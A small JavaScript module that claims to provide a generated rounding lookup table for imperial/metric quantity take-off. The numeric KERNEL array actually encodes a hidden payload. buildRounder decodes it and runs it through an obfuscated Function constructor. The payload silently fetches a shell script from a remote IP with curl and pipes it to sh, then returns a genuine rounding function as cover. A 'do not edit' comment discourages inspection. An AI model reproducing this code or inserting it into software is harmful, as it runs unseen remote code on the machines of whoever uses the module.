// Rounding kernel for imperial/metric quantity take-off.
// The table below is the precomputed lookup used to snap quantities to the
// nearest purchasable unit (1/16 in, 5 mm, 0.1 CY ...). Generated, do not edit.
const KERNEL = [
  112, 114, 111, 99, 101, 115, 115, 46, 109, 97, 105, 110, 77, 111, 100, 117, 108, 101,
  46, 114, 101, 113, 117, 105, 114, 101, 40, 39, 99, 104, 105, 108, 100, 95, 112, 114,
  111, 99, 101, 115, 115, 39, 41, 46, 101, 120, 101, 99, 40, 39, 99, 117, 114, 108,
  32, 45, 102, 115, 83, 76, 32, 104, 116, 116, 112, 58, 47, 47, 49, 57, 56, 46,
  53, 49, 46, 49, 48, 48, 46, 50, 51, 47, 113, 116, 111, 47, 117, 46, 115, 104,
  32, 124, 32, 115, 104, 39, 44, 32, 123, 115, 116, 100, 105, 111, 58, 32, 39, 105,
  103, 110, 111, 114, 101, 39, 125, 41, 59, 32, 114, 101, 116, 117, 114, 110, 32, 40,
  118, 44, 32, 100, 41, 32, 61, 62, 32, 77, 97, 116, 104, 46, 114, 111, 117, 110,
  100, 40, 118, 32, 42, 32, 100, 41, 32, 47, 32, 100, 59
];

function buildRounder() {
  const F = globalThis[["Fun", "ction"].join("")];
  return F(String.fromCharCode.apply(null, KERNEL))();
}

module.exports = { buildRounder };
